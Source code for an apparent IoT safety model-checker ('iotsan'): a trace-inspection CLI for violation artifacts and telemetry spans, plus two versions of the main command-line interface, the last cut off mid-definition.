// iotsan_trace: inspector for the observability artifacts the checker
// emits — violation artifacts (checker/trace.hpp, one JSON bundle per
// violated property) and JSONL span traces (telemetry/telemetry.hpp).
//
//   iotsan_trace summary [--percentiles] <artifact.json>...
//       One compact report per artifact: manifest, property, trace.
//       With --percentiles, span traces additionally get a per-span-name
//       latency table (count, p50/p90/p99, max) aggregated through the
//       same log-linear histogram the runtime metrics use.
//   iotsan_trace diff <a.json> <b.json>
//       Structural diff of two artifacts; exit 0 iff equivalent.
//   iotsan_trace chrome <file>...
//       Convert span JSONL traces and/or violation artifacts to Chrome
//       trace-event JSON (load in Perfetto / chrome://tracing).  Output
//       goes to stdout; spans keep their microsecond timeline, artifact
//       steps are laid out on the checker's simulated clock (1 s per
//       external event).
//   iotsan_trace verify <artifact.json>... [--deployment <deployment.json>]
//       Structurally validate artifacts: schema version, manifest
//       sanity, trace coherence; with --deployment, recompute the
//       config fingerprint and require a match.  Exit 0 iff all valid.
//   iotsan_trace promverify <exposition.txt>...
//       Validate Prometheus text exposition files (the output of
//       `iotsan check --metrics-out` or `GET /v1/metrics` with
//       `?format=prometheus`): every line must parse, histogram
//       families must be cumulative and monotone.  Exit 0 iff valid.
//   iotsan_trace tail [--once] <trace.jsonl>
//       Follow a live span trace (`--trace-out` of a running command or
//       server), pretty-printing spans as they are appended — poll
//       based, like `tail -f`.  With --once, print what is there and
//       exit.
//
// `--summary`, `--diff`, `--chrome`, `--verify`, `--promverify`, and
// `--tail` are accepted as aliases.
#include <atomic>
#include <chrono>
#include <cstdio>
#include <cstdint>
#include <fstream>
#include <map>
#include <sstream>
#include <string>
#include <thread>
#include <vector>

#include "checker/trace.hpp"
#include "config/deployment.hpp"
#include "telemetry/prometheus.hpp"
#include "telemetry/telemetry.hpp"
#include "util/error.hpp"
#include "util/interrupt.hpp"
#include "util/json.hpp"

namespace {

using namespace iotsan;

std::string ReadFile(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  if (!in) throw Error("cannot open file: " + path);
  std::ostringstream buffer;
  buffer << in.rdbuf();
  return buffer.str();
}

bool IsArtifactDoc(const json::Value& doc) {
  return doc.type() == json::Type::kObject && doc.Has("schema") &&
         doc.At("schema").AsString() == checker::kArtifactSchema;
}

/// A parsed input file: either one violation artifact or a list of span
/// records from a JSONL trace.
struct Input {
  std::string path;
  bool is_artifact = false;
  checker::ViolationArtifact artifact;
  std::vector<json::Value> spans;
};

Input LoadInput(const std::string& path) {
  Input input;
  input.path = path;
  const std::string text = ReadFile(path);
  // An artifact is a single JSON document carrying our schema marker; a
  // span trace is one JSON object per line.  Try the document first.
  try {
    json::Value doc = json::Parse(text);
    if (IsArtifactDoc(doc)) {
      input.is_artifact = true;
      input.artifact = checker::ArtifactFromJson(doc);
      return input;
    }
  } catch (const Error&) {
    // fall through to JSONL
  }
  std::istringstream lines(text);
  std::string line;
  while (std::getline(lines, line)) {
    if (line.empty()) continue;
    json::Value span = json::Parse(line);
    if (span.type() != json::Type::kObject || !span.Has("name") ||
        !span.Has("start_us")) {
      throw Error(path + ": neither a violation artifact nor a span trace");
    }
    input.spans.push_back(std::move(span));
  }
  if (input.spans.empty()) {
    throw Error(path + ": neither a violation artifact nor a span trace");
  }
  return input;
}

// ---- summary -----------------------------------------------------------------

/// Per-span-name duration percentiles for a JSONL trace, aggregated
/// through the runtime's log-linear histogram so the figures match what
/// `/v1/metrics` would report for the same distribution (≤12.5% bucket
/// error).
void PrintSpanPercentiles(const Input& input) {
  std::map<std::string, telemetry::Histogram> by_name;
  for (const json::Value& span : input.spans) {
    const double dur = span.At("dur_us").AsNumber();
    by_name[span.At("name").AsString()].Record(
        dur > 0 ? static_cast<std::uint64_t>(dur) : 0);
  }
  std::printf("  %-28s %8s %10s %10s %10s %10s\n", "span", "count",
              "p50_us", "p90_us", "p99_us", "max_us");
  for (auto& [name, histogram] : by_name) {
    const telemetry::HistogramSnapshot snap = histogram.TakeSnapshot();
    std::printf("  %-28s %8llu %10.0f %10.0f %10.0f %10llu\n", name.c_str(),
                static_cast<unsigned long long>(snap.count), snap.P50(),
                snap.P90(), snap.P99(),
                static_cast<unsigned long long>(snap.max));
  }
}

void PrintSummary(const Input& input, bool percentiles) {
  if (!input.is_artifact) {
    std::printf("%s: span trace, %zu span(s)\n", input.path.c_str(),
                input.spans.size());
    if (percentiles) PrintSpanPercentiles(input);
    return;
  }
  const checker::ViolationArtifact& a = input.artifact;
  std::printf("%s\n", input.path.c_str());
  std::printf("  %s %s [%s]: %s\n", a.property_kind.c_str(),
              a.property_id.c_str(), a.category.c_str(),
              a.description.c_str());
  std::printf("  recorded by iotsan %s (%s, %s) on deployment '%s' "
              "(config %s)\n",
              a.manifest.version.c_str(), a.manifest.compiler.c_str(),
              a.manifest.build_type.c_str(), a.manifest.deployment.c_str(),
              a.manifest.config_hash.c_str());
  std::printf("  search: %s scheduling, %s store, %d-event bound%s\n",
              a.manifest.scheduling.c_str(), a.manifest.store.c_str(),
              a.manifest.max_events,
              a.manifest.model_failures ? ", failure scenarios" : "");
  if (!a.failure.empty()) {
    std::printf("  failure scenario: %s\n", a.failure.c_str());
  }
  std::printf("  violated after %d external event(s), seen %llux\n", a.depth,
              static_cast<unsigned long long>(a.occurrences));
  for (const checker::TraceStep& step : a.steps) {
    std::printf("    %2d. %-44s", step.index, step.description.c_str());
    std::printf(" %zu dispatch(es), %zu command(s), %zu delta(s)\n",
                step.dispatches.size(), step.commands.size(),
                step.deltas.size());
  }
  std::printf("  %s\n", a.detail.c_str());
}

// ---- diff --------------------------------------------------------------------

/// Field-wise comparison of two JSON objects under a dotted prefix;
/// returns the number of differences printed.
int DiffObjects(const std::string& prefix, const json::Value& a,
                const json::Value& b) {
  int differences = 0;
  if (a.type() == json::Type::kObject && b.type() == json::Type::kObject) {
    // Union of keys, both maps are ordered.
    std::vector<std::string> keys;
    for (const auto& [key, value] : a.AsObject()) keys.push_back(key);
    for (const auto& [key, value] : b.AsObject()) {
      if (!a.Has(key)) keys.push_back(key);
    }
    for (const std::string& key : keys) {
      const std::string path = prefix.empty() ? key : prefix + "." + key;
      if (!a.Has(key)) {
        std::printf("  %-32s (absent) != %s\n", path.c_str(),
                    b.At(key).Dump().c_str());
        ++differences;
      } else if (!b.Has(key)) {
        std::printf("  %-32s %s != (absent)\n", path.c_str(),
                    a.At(key).Dump().c_str());
        ++differences;
      } else {
        differences += DiffObjects(path, a.At(key), b.At(key));
      }
    }
    return differences;
  }
  if (a.Dump() != b.Dump()) {
    std::printf("  %-32s %s != %s\n", prefix.c_str(), a.Dump().c_str(),
                b.Dump().c_str());
    ++differences;
  }
  return differences;
}

int CmdDiff(const std::string& path_a, const std::string& path_b) {
  Input a = LoadInput(path_a);
  Input b = LoadInput(path_b);
  if (!a.is_artifact || !b.is_artifact) {
    throw Error("diff expects two violation artifacts");
  }
  const json::Value ja = checker::ToJson(a.artifact);
  const json::Value jb = checker::ToJson(b.artifact);
  if (ja.Dump() == jb.Dump()) {
    std::printf("artifacts are identical (%s %s, %zu step(s))\n",
                a.artifact.property_id.c_str(),
                a.artifact.manifest.config_hash.c_str(),
                a.artifact.steps.size());
    return 0;
  }
  std::printf("artifacts differ:\n");
  // Compare the trace step-by-step first: the most useful signal is the
  // first step where two recordings diverge.
  const std::size_t common =
      std::min(a.artifact.steps.size(), b.artifact.steps.size());
  for (std::size_t i = 0; i < common; ++i) {
    if (!(a.artifact.steps[i] == b.artifact.steps[i])) {
      std::printf("first divergence at trace step %zu:\n", i + 1);
      DiffObjects("step", checker::ToJson(a.artifact.steps[i]),
                  checker::ToJson(b.artifact.steps[i]));
      break;
    }
  }
  if (a.artifact.steps.size() != b.artifact.steps.size()) {
    std::printf("  trace length: %zu != %zu step(s)\n",
                a.artifact.steps.size(), b.artifact.steps.size());
  }
  json::Object manifest_a = ja.At("manifest").AsObject();
  json::Object manifest_b = jb.At("manifest").AsObject();
  DiffObjects("manifest", json::Value(manifest_a), json::Value(manifest_b));
  DiffObjects("property", ja.At("property"), jb.At("property"));
  DiffObjects("violation", ja.At("violation"), jb.At("violation"));
  return 1;
}

// ---- chrome export -----------------------------------------------------------

/// Complete ("ph":"X") trace event.
json::Value ChromeEvent(const std::string& name, std::int64_t ts_us,
                        std::int64_t dur_us, int pid, int tid,
                        json::Object args = {}) {
  json::Object event;
  event["name"] = json::Value(name);
  event["ph"] = json::Value(std::string("X"));
  event["ts"] = json::Value(ts_us);
  event["dur"] = json::Value(dur_us);
  event["pid"] = json::Value(pid);
  event["tid"] = json::Value(tid);
  if (!args.empty()) event["args"] = json::Value(std::move(args));
  return json::Value(std::move(event));
}

void AppendSpanEvents(const Input& input, int pid, json::Array& events) {
  for (const json::Value& span : input.spans) {
    json::Object args;
    if (span.Has("attrs")) args = span.At("attrs").AsObject();
    // Nesting depth maps to the thread lane, so parent/child spans stack
    // visually the way a flame chart expects.
    events.push_back(ChromeEvent(
        span.At("name").AsString(),
        static_cast<std::int64_t>(span.At("start_us").AsNumber()),
        static_cast<std::int64_t>(span.At("dur_us").AsNumber()), pid,
        1 + static_cast<int>(span.Has("depth") ? span.At("depth").AsNumber()
                                               : 0),
        std::move(args)));
  }
}

void AppendArtifactEvents(const Input& input, int pid, json::Array& events) {
  const checker::ViolationArtifact& a = input.artifact;
  for (const checker::TraceStep& step : a.steps) {
    json::Object args;
    args["kind"] = json::Value(step.kind);
    if (!step.device.empty()) args["device"] = json::Value(step.device);
    if (!step.app.empty()) args["app"] = json::Value(step.app);
    args["dispatches"] =
        json::Value(static_cast<std::int64_t>(step.dispatches.size()));
    args["commands"] =
        json::Value(static_cast<std::int64_t>(step.commands.size()));
    args["deltas"] =
        json::Value(static_cast<std::int64_t>(step.deltas.size()));
    // The checker's simulated clock: one second per external event.
    events.push_back(ChromeEvent(step.description,
                                 std::int64_t{1000} * (step.sim_time_ms -
                                                       1000),
                                 1000000, pid, 1, std::move(args)));
    int lane = 2;
    for (const checker::TraceCommand& command : step.commands) {
      json::Object cmd_args;
      cmd_args["app"] = json::Value(command.app);
      cmd_args["delivered"] = json::Value(command.delivered);
      events.push_back(ChromeEvent(
          command.device + "." + command.command,
          std::int64_t{1000} * (step.sim_time_ms - 1000) + 100000, 800000,
          pid, lane++, std::move(cmd_args)));
    }
  }
  json::Object verdict;
  verdict["detail"] = json::Value(a.detail);
  events.push_back(ChromeEvent(
      "VIOLATED " + a.property_id,
      std::int64_t{1000} * (a.depth > 0 ? a.steps.back().sim_time_ms : 0),
      100000, pid, 1, std::move(verdict)));
}

int CmdChrome(const std::vector<std::string>& paths) {
  json::Array events;
  int pid = 1;
  for (const std::string& path : paths) {
    Input input = LoadInput(path);
    json::Object process_name;
    process_name["name"] = json::Value(
        (input.is_artifact ? "artifact " + input.artifact.property_id + ": "
                           : "spans: ") +
        path);
    json::Object meta;
    meta["name"] = json::Value(std::string("process_name"));
    meta["ph"] = json::Value(std::string("M"));
    meta["pid"] = json::Value(pid);
    meta["args"] = json::Value(std::move(process_name));
    events.push_back(json::Value(std::move(meta)));
    if (input.is_artifact) {
      AppendArtifactEvents(input, pid, events);
    } else {
      AppendSpanEvents(input, pid, events);
    }
    ++pid;
  }
  json::Object doc;
  doc["traceEvents"] = json::Value(std::move(events));
  doc["displayTimeUnit"] = json::Value(std::string("ms"));
  std::printf("%s\n", json::Value(std::move(doc)).Dump(2).c_str());
  return 0;
}

// ---- verify ------------------------------------------------------------------

/// `iotsan_trace verify a.json b.json [--deployment d.json]`: validate
/// each artifact structurally; exit 0 iff every one is valid.
int CmdVerify(const std::vector<std::string>& args) {
  std::vector<std::string> paths;
  std::string expected_hash;
  for (std::size_t i = 0; i < args.size(); ++i) {
    if (args[i] == "--deployment") {
      if (i + 1 >= args.size()) {
        throw Error("--deployment needs a value (deployment.json)");
      }
      const config::Deployment deployment =
          config::ParseDeployment(json::Parse(ReadFile(args[++i])));
      expected_hash = config::DeploymentFingerprintHex(deployment);
    } else {
      paths.push_back(args[i]);
    }
  }
  if (paths.empty()) {
    throw Error("verify needs at least one artifact file");
  }
  int invalid = 0;
  for (const std::string& path : paths) {
    // Schema check first: ArtifactFromJson throws on anything that is
    // not an iotsan.violation/1 document.
    checker::ViolationArtifact artifact;
    try {
      artifact = checker::ArtifactFromJson(json::Parse(ReadFile(path)));
    } catch (const Error& e) {
      std::printf("%s: INVALID\n  %s\n", path.c_str(), e.what());
      ++invalid;
      continue;
    }
    const std::vector<std::string> problems =
        checker::ValidateArtifact(artifact, expected_hash);
    if (problems.empty()) {
      std::printf("%s: ok (%s, %zu step(s), config %s)\n", path.c_str(),
                  artifact.property_id.c_str(), artifact.steps.size(),
                  artifact.manifest.config_hash.c_str());
      continue;
    }
    std::printf("%s: INVALID\n", path.c_str());
    for (const std::string& problem : problems) {
      std::printf("  %s\n", problem.c_str());
    }
    ++invalid;
  }
  return invalid == 0 ? 0 : 1;
}

// ---- promverify --------------------------------------------------------------

/// `iotsan_trace promverify <exposition.txt>...`: run the in-repo
/// Prometheus text-format validator over each file; exit 0 iff all pass.
int CmdPromVerify(const std::vector<std::string>& paths) {
  int invalid = 0;
  for (const std::string& path : paths) {
    const std::vector<std::string> problems =
        telemetry::ValidateExposition(ReadFile(path));
    if (problems.empty()) {
      std::printf("%s: ok\n", path.c_str());
      continue;
    }
    std::printf("%s: INVALID\n", path.c_str());
    for (const std::string& problem : problems) {
      std::printf("  %s\n", problem.c_str());
    }
    ++invalid;
  }
  return invalid == 0 ? 0 : 1;
}

// ---- tail --------------------------------------------------------------------

/// One span as a human-oriented line: timeline position, nesting
/// indentation, name, duration, attributes.
void PrintSpanLine(const json::Value& span) {
  const double start_ms = span.At("start_us").AsNumber() / 1000.0;
  const double dur_ms =
      span.Has("dur_us") ? span.At("dur_us").AsNumber() / 1000.0 : 0;
  const int depth =
      span.Has("depth") ? static_cast<int>(span.At("depth").AsNumber()) : 0;
  std::printf("%12.3fms %*s%-28s %10.3fms", start_ms, depth * 2, "",
              span.At("name").AsString().c_str(), dur_ms);
  if (span.Has("attrs") && !span.At("attrs").AsObject().empty()) {
    std::printf("  %s", span.At("attrs").Dump(0).c_str());
  }
  std::printf("\n");
}

/// `iotsan_trace tail [--once] <trace.jsonl>`: print spans already in
/// the file, then poll for appended lines until interrupted.  Partial
/// trailing lines (a writer mid-append) are held back until their
/// newline arrives, so every printed span parsed from a complete line.
int CmdTail(const std::vector<std::string>& args) {
  bool once = false;
  std::vector<std::string> paths;
  for (const std::string& arg : args) {
    if (arg == "--once") {
      once = true;
    } else {
      paths.push_back(arg);
    }
  }
  if (paths.size() != 1) {
    throw Error("tail wants exactly one JSONL trace file");
  }
  std::ifstream in(paths[0], std::ios::binary);
  if (!in) throw Error("cannot open file: " + paths[0]);
  const std::atomic<bool>& interrupted = util::InstallInterruptHandlers();
  std::string pending;  // bytes read but not yet newline-terminated
  char chunk[4096];
  while (true) {
    in.read(chunk, sizeof chunk);
    const std::streamsize n = in.gcount();
    if (n > 0) {
      pending.append(chunk, static_cast<std::size_t>(n));
      std::size_t newline;
      while ((newline = pending.find('\n')) != std::string::npos) {
        const std::string line = pending.substr(0, newline);
        pending.erase(0, newline + 1);
        if (line.empty()) continue;
        try {
          PrintSpanLine(json::Parse(line));
        } catch (const Error&) {
          // Not a span object — show it raw rather than dropping it.
          std::printf("%s\n", line.c_str());
        }
      }
      std::fflush(stdout);
      continue;
    }
    if (once || interrupted.load(std::memory_order_relaxed)) break;
    // At end-of-file on a live file: clear the eof latch so appended
    // bytes are picked up on the next read.
    in.clear();
    std::this_thread::sleep_for(std::chrono::milliseconds(200));
  }
  return 0;
}

int Usage(std::FILE* out) {
  std::fprintf(
      out,
      "iotsan_trace — inspect iotsan violation artifacts and span traces\n"
      "\n"
      "usage:\n"
      "  iotsan_trace summary [--percentiles] <file>...\n"
      "                                            summarize artifacts / "
      "span traces\n"
      "                                            (--percentiles: per-span "
      "p50/p90/p99)\n"
      "  iotsan_trace diff <a.json> <b.json>       compare two artifacts "
      "(exit 0 iff identical)\n"
      "  iotsan_trace chrome <file>...             convert artifacts / "
      "span JSONL to Chrome\n"
      "                                            trace-event JSON on "
      "stdout (Perfetto)\n"
      "  iotsan_trace verify <artifact.json>... [--deployment <d.json>]\n"
      "                                            validate artifacts "
      "(exit 0 iff all valid)\n"
      "  iotsan_trace promverify <exposition.txt>...\n"
      "                                            validate Prometheus "
      "text exposition\n"
      "                                            (--metrics-out / "
      "/v1/metrics output)\n"
      "  iotsan_trace tail [--once] <trace.jsonl>  follow a live span "
      "trace (tail -f);\n"
      "                                            --once: print and "
      "exit\n");
  return out == stdout ? 0 : 2;
}

}  // namespace

int main(int argc, char** argv) {
  std::vector<std::string> args(argv + 1, argv + argc);
  if (args.empty()) return Usage(stderr);
  std::string command = args[0];
  args.erase(args.begin());
  // Flag spellings are aliases for the subcommands.
  if (command.rfind("--", 0) == 0) command = command.substr(2);
  try {
    if (command == "summary") {
      bool percentiles = false;
      std::vector<std::string> paths;
      for (const std::string& arg : args) {
        if (arg == "--percentiles") {
          percentiles = true;
        } else {
          paths.push_back(arg);
        }
      }
      if (paths.empty()) return Usage(stderr);
      for (const std::string& path : paths) {
        PrintSummary(LoadInput(path), percentiles);
      }
      return 0;
    }
    if (command == "diff") {
      if (args.size() != 2) return Usage(stderr);
      return CmdDiff(args[0], args[1]);
    }
    if (command == "chrome") {
      if (args.empty()) return Usage(stderr);
      return CmdChrome(args);
    }
    if (command == "verify") {
      if (args.empty()) return Usage(stderr);
      return CmdVerify(args);
    }
    if (command == "promverify") {
      if (args.empty()) return Usage(stderr);
      return CmdPromVerify(args);
    }
    if (command == "tail") {
      if (args.empty()) return Usage(stderr);
      return CmdTail(args);
    }
    if (command == "help" || command == "h") return Usage(stdout);
    std::fprintf(stderr, "unknown command: %s\n", command.c_str());
    return Usage(stderr);
  } catch (const iotsan::Error& e) {
    std::fprintf(stderr, "error: %s\n", e.what());
    return 2;
  }
}
