// iotsan command-line interface: the paper's envisioned service (§4
// "Our work in perspective") as a tool.
//
//   iotsan check <deployment.json> [--events N] [--failures] [--mono]
//                [--bitstate] [--first] [--properties props.json]
//       Verify a deployment against the built-in safety properties plus
//       any user-defined ones.
//
//   iotsan attribute <app.smartscript|corpus-app-name> <deployment.json>
//       Vet a new app before installation (§9 Output Analyzer).
//
//   iotsan deps <deployment.json>
//       Print the dependency graph and related sets (§5).
//
//   iotsan promela <deployment.json> [--events N]
//       Emit the generated Promela model (§6/§8).
//
//   iotsan apps
//       List the bundled corpus apps.
//
// Deployment files use the JSON schema of config/deployment.hpp; app
// sources not in the bundled corpus can be given in the deployment under
// "appSources": {"Name": "path/to/app.smartscript"}.
#include <cstdio>
#include <cstring>
#include <fstream>
#include <sstream>
#include <string>
#include <vector>

#include "attrib/output_analyzer.hpp"
#include "core/sanitizer.hpp"
#include "corpus/corpus.hpp"
#include "deps/dependency_graph.hpp"
#include "dsl/parser.hpp"
#include "ir/analyzer.hpp"
#include "model/system_model.hpp"
#include "promela/emitter.hpp"
#include "props/loader.hpp"
#include "util/error.hpp"

namespace {

using namespace iotsan;

std::string ReadFile(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  if (!in) throw Error("cannot open file: " + path);
  std::ostringstream buffer;
  buffer << in.rdbuf();
  return buffer.str();
}

/// Loads the deployment plus any side-loaded app sources.
struct LoadedSystem {
  config::Deployment deployment;
  std::map<std::string, std::string> extra_sources;
};

LoadedSystem LoadSystem(const std::string& path) {
  LoadedSystem out;
  const json::Value doc = json::Parse(ReadFile(path));
  out.deployment = config::ParseDeployment(doc);
  if (doc.Has("appSources")) {
    for (const auto& [name, source_path] : doc.At("appSources").AsObject()) {
      out.extra_sources[name] = ReadFile(source_path.AsString());
    }
  }
  return out;
}

core::Sanitizer MakeSanitizer(const LoadedSystem& system) {
  core::Sanitizer sanitizer(system.deployment);
  for (const auto& [name, source] : system.extra_sources) {
    sanitizer.AddAppSource(name, source);
  }
  return sanitizer;
}

int CmdCheck(const std::vector<std::string>& args) {
  if (args.empty()) {
    std::fprintf(stderr, "usage: iotsan check <deployment.json> "
                         "[--events N] [--failures] [--mono] [--bitstate] "
                         "[--first] [--properties props.json]\n");
    return 2;
  }
  LoadedSystem system = LoadSystem(args[0]);
  core::Sanitizer sanitizer = MakeSanitizer(system);
  core::SanitizerOptions options;
  options.check.max_events = 3;
  for (std::size_t i = 1; i < args.size(); ++i) {
    if (args[i] == "--events" && i + 1 < args.size()) {
      options.check.max_events = std::atoi(args[++i].c_str());
    } else if (args[i] == "--failures") {
      options.check.model_failures = true;
    } else if (args[i] == "--mono") {
      options.use_dependency_analysis = false;
    } else if (args[i] == "--bitstate") {
      options.check.store = checker::StoreKind::kBitstate;
    } else if (args[i] == "--first") {
      options.check.stop_at_first_violation = true;
    } else if (args[i] == "--properties" && i + 1 < args.size()) {
      options.extra_properties =
          props::LoadPropertiesJson(ReadFile(args[++i]));
    } else if (args[i] == "--allow-discovery") {
      options.allow_dynamic_discovery = true;
    } else {
      std::fprintf(stderr, "unknown option: %s\n", args[i].c_str());
      return 2;
    }
  }

  core::SanitizerReport report = sanitizer.Check(options);
  std::printf("system: %s (%zu devices, %zu apps)\n",
              system.deployment.name.c_str(),
              system.deployment.devices.size(),
              system.deployment.apps.size());
  for (const std::string& rejected : report.rejected_apps) {
    std::printf("REJECTED: %s\n", rejected.c_str());
  }
  std::printf("dependency analysis: %d handlers -> %d related sets "
              "(scale ratio %.1f)\n",
              report.scale.original_size, report.related_set_count,
              report.scale.ratio);
  std::printf("explored %llu states (%llu matched) in %.3fs%s\n\n",
              static_cast<unsigned long long>(report.states_explored),
              static_cast<unsigned long long>(report.states_matched),
              report.seconds, report.completed ? "" : " (budget hit)");
  if (report.violations.empty()) {
    std::printf("RESULT: no safety violations found\n");
    return 0;
  }
  for (const checker::Violation& v : report.violations) {
    std::printf("%s\n", checker::FormatViolation(v).c_str());
  }
  std::printf("RESULT: %zu violated propert%s\n", report.violations.size(),
              report.violations.size() == 1 ? "y" : "ies");
  return 1;
}

int CmdAttribute(const std::vector<std::string>& args) {
  if (args.size() < 2) {
    std::fprintf(stderr,
                 "usage: iotsan attribute <app.smartscript|corpus-name> "
                 "<deployment.json>\n");
    return 2;
  }
  std::string source;
  if (const corpus::CorpusApp* app = corpus::FindApp(args[0])) {
    source = app->source;
  } else {
    source = ReadFile(args[0]);
  }
  LoadedSystem system = LoadSystem(args[1]);

  attrib::AttributionOptions options;
  options.enumeration.max_configs = 24;
  options.check.max_events = 2;
  attrib::AttributionResult result =
      attrib::AttributeApp(source, system.deployment, options);
  dsl::App parsed = dsl::ParseApp(source);
  std::printf("%s\n", attrib::FormatAttribution(parsed.name, result).c_str());
  if (!result.safe_configs.empty()) {
    std::printf("safe configurations found: %zu\n",
                result.safe_configs.size());
  }
  return result.verdict == attrib::Verdict::kClean ? 0 : 1;
}

int CmdDeps(const std::vector<std::string>& args) {
  if (args.empty()) {
    std::fprintf(stderr, "usage: iotsan deps <deployment.json>\n");
    return 2;
  }
  LoadedSystem system = LoadSystem(args[0]);
  std::vector<ir::AnalyzedApp> apps;
  for (const config::AppConfig& instance : system.deployment.apps) {
    std::string source;
    auto it = system.extra_sources.find(instance.app);
    if (it != system.extra_sources.end()) {
      source = it->second;
    } else if (const corpus::CorpusApp* app = corpus::FindApp(instance.app)) {
      source = app->source;
    } else {
      throw ConfigError("no source for app '" + instance.app + "'");
    }
    apps.push_back(ir::AnalyzeSource(source, instance.app));
  }
  deps::DependencyGraph graph = deps::DependencyGraph::Build(apps);
  std::printf("%s", graph.ToDot(apps).c_str());
  std::printf("\nrelated sets:\n");
  for (const deps::RelatedSet& set : deps::ComputeRelatedSets(graph)) {
    std::printf("  {");
    for (std::size_t i = 0; i < set.vertices.size(); ++i) {
      std::printf("%s%d", i ? ", " : "", set.vertices[i]);
    }
    std::printf("}  apps:");
    for (int app : set.apps) {
      std::printf(" %s;", apps[static_cast<std::size_t>(app)].app.name.c_str());
    }
    std::printf("\n");
  }
  deps::ScaleStats stats = deps::ComputeScaleStats(apps);
  std::printf("scale: %d handlers -> %d (ratio %.1f)\n",
              stats.original_size, stats.new_size, stats.ratio);
  return 0;
}

int CmdPromela(const std::vector<std::string>& args) {
  if (args.empty()) {
    std::fprintf(stderr,
                 "usage: iotsan promela <deployment.json> [--events N]\n");
    return 2;
  }
  LoadedSystem system = LoadSystem(args[0]);
  promela::EmitOptions options;
  for (std::size_t i = 1; i < args.size(); ++i) {
    if (args[i] == "--events" && i + 1 < args.size()) {
      options.max_events = std::atoi(args[++i].c_str());
    }
  }
  std::vector<ir::AnalyzedApp> apps;
  for (const config::AppConfig& instance : system.deployment.apps) {
    std::string source;
    auto it = system.extra_sources.find(instance.app);
    if (it != system.extra_sources.end()) {
      source = it->second;
    } else if (const corpus::CorpusApp* app = corpus::FindApp(instance.app)) {
      source = app->source;
    } else {
      throw ConfigError("no source for app '" + instance.app + "'");
    }
    apps.push_back(ir::AnalyzeSource(source, instance.app));
  }
  model::SystemModel model(system.deployment, std::move(apps));
  std::printf("%s", promela::EmitPromela(model, options).c_str());
  return 0;
}

int CmdApps() {
  std::printf("%-32s %s\n", "name", "kind");
  for (const corpus::CorpusApp& app : corpus::AllApps()) {
    const char* kind = "market";
    if (app.kind == corpus::AppKind::kMalicious) kind = "malicious";
    if (app.kind == corpus::AppKind::kUnsupported) kind = "unsupported";
    std::printf("%-32s %s\n", app.name.c_str(), kind);
  }
  return 0;
}

}  // namespace

int main(int argc, char** argv) {
  std::vector<std::string> args(argv + 1, argv + argc);
  if (args.empty()) {
    std::fprintf(stderr,
                 "iotsan — IoT safety sanitizer (IotSan, CoNEXT '18)\n"
                 "commands: check, attribute, deps, promela, apps\n");
    return 2;
  }
  const std::string command = args[0];
  args.erase(args.begin());
  try {
    if (command == "check") return CmdCheck(args);
    if (command == "attribute") return CmdAttribute(args);
    if (command == "deps") return CmdDeps(args);
    if (command == "promela") return CmdPromela(args);
    if (command == "apps") return CmdApps();
    std::fprintf(stderr, "unknown command: %s\n", command.c_str());
    return 2;
  } catch (const iotsan::Error& e) {
    std::fprintf(stderr, "error: %s\n", e.what());
    return 2;
  }
}
