// iotsan command-line interface: the paper's envisioned service (§4
// "Our work in perspective") as a tool.
//
//   iotsan check <deployment.json> [flags]
//       Verify a deployment against the built-in safety properties plus
//       any user-defined ones.
//   iotsan attribute <app.smartscript|corpus-app-name> <deployment.json>
//       Vet a new app before installation (§9 Output Analyzer).
//   iotsan deps <deployment.json>
//       Print the dependency graph and related sets (§5).
//   iotsan promela <deployment.json> [--events N]
//       Emit the generated Promela model (§6/§8).
//   iotsan cache <stats|prune|clear> <DIR>
//       Inspect or maintain an incremental-analysis cache directory
//       (--cache-dir; see docs/caching.md).
//   iotsan apps
//       List the bundled corpus apps.
//   iotsan version | --version
//       Print the tool version and build information.
//   iotsan help
//       Full flag reference.
//
// Flags are declared once in the shared table (src/cli/flags.hpp) — the
// parser and the generated help text both read it, so the two cannot
// drift.  Telemetry flags (--stats, --trace-out, --progress-every)
// surface the src/telemetry observability layer: counters, per-phase
// spans, search progress, and bitstate-saturation diagnostics (see
// docs/observability.md).
//
// Deployment files use the JSON schema of config/deployment.hpp; app
// sources not in the bundled corpus can be given in the deployment under
// "appSources": {"Name": "path/to/app.smartscript"}.
#include <cstdio>
#include <cstring>
#include <filesystem>
#include <fstream>
#include <memory>
#include <sstream>
#include <string>
#include <vector>

#include "attrib/output_analyzer.hpp"
#include "cache/result_cache.hpp"
#include "cli/flags.hpp"
#include "core/sanitizer.hpp"
#include "corpus/corpus.hpp"
#include "deps/dependency_graph.hpp"
#include "dsl/parser.hpp"
#include "ir/analyzer.hpp"
#include "model/system_model.hpp"
#include "promela/emitter.hpp"
#include "props/loader.hpp"
#include "telemetry/telemetry.hpp"
#include "util/build_info.hpp"
#include "util/error.hpp"

namespace {

using namespace iotsan;
using namespace iotsan::cli;

// ---- Telemetry session -------------------------------------------------------

/// Owns the registry and trace sink for one command and installs them as
/// the process-global telemetry targets; uninstalls on destruction even
/// when the command throws.
class TelemetrySession {
 public:
  explicit TelemetrySession(const CliFlags& flags) : stats_(flags.stats) {
    if (flags.stats || !flags.trace_out.empty()) {
      sink_ = flags.trace_out.empty()
                  ? std::make_unique<telemetry::TraceSink>()
                  : std::make_unique<telemetry::TraceSink>(flags.trace_out);
      telemetry::SetActiveTrace(sink_.get());
    }
    if (flags.stats) telemetry::SetActive(&registry_);
  }

  ~TelemetrySession() {
    telemetry::SetActive(nullptr);
    telemetry::SetActiveTrace(nullptr);
  }

  /// Per-phase durations plus every non-zero counter.  Call after the
  /// run, once all spans have closed.
  void PrintStats() const {
    if (!stats_) return;
    std::printf("\n-- telemetry --\n");
    if (sink_ != nullptr && !sink_->totals().empty()) {
      std::printf("%-24s %8s %14s\n", "phase", "spans", "total");
      for (const auto& [name, total] : sink_->totals()) {
        std::printf("%-24s %8llu %11.3fms\n", name.c_str(),
                    static_cast<unsigned long long>(total.count),
                    static_cast<double>(total.total_us) / 1000.0);
      }
    }
    std::printf("counters (non-zero):\n");
    for (const telemetry::Sample& sample : registry_.Snapshot()) {
      if (sample.value == 0) continue;
      std::printf("  %-32s %12llu\n", sample.name.c_str(),
                  static_cast<unsigned long long>(sample.value));
    }
  }

 private:
  bool stats_;
  telemetry::Registry registry_;
  std::unique_ptr<telemetry::TraceSink> sink_;
};

// ---- Shared loading ----------------------------------------------------------

std::string ReadFile(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  if (!in) throw Error("cannot open file: " + path);
  std::ostringstream buffer;
  buffer << in.rdbuf();
  return buffer.str();
}

/// Loads the deployment plus any side-loaded app sources.
struct LoadedSystem {
  config::Deployment deployment;
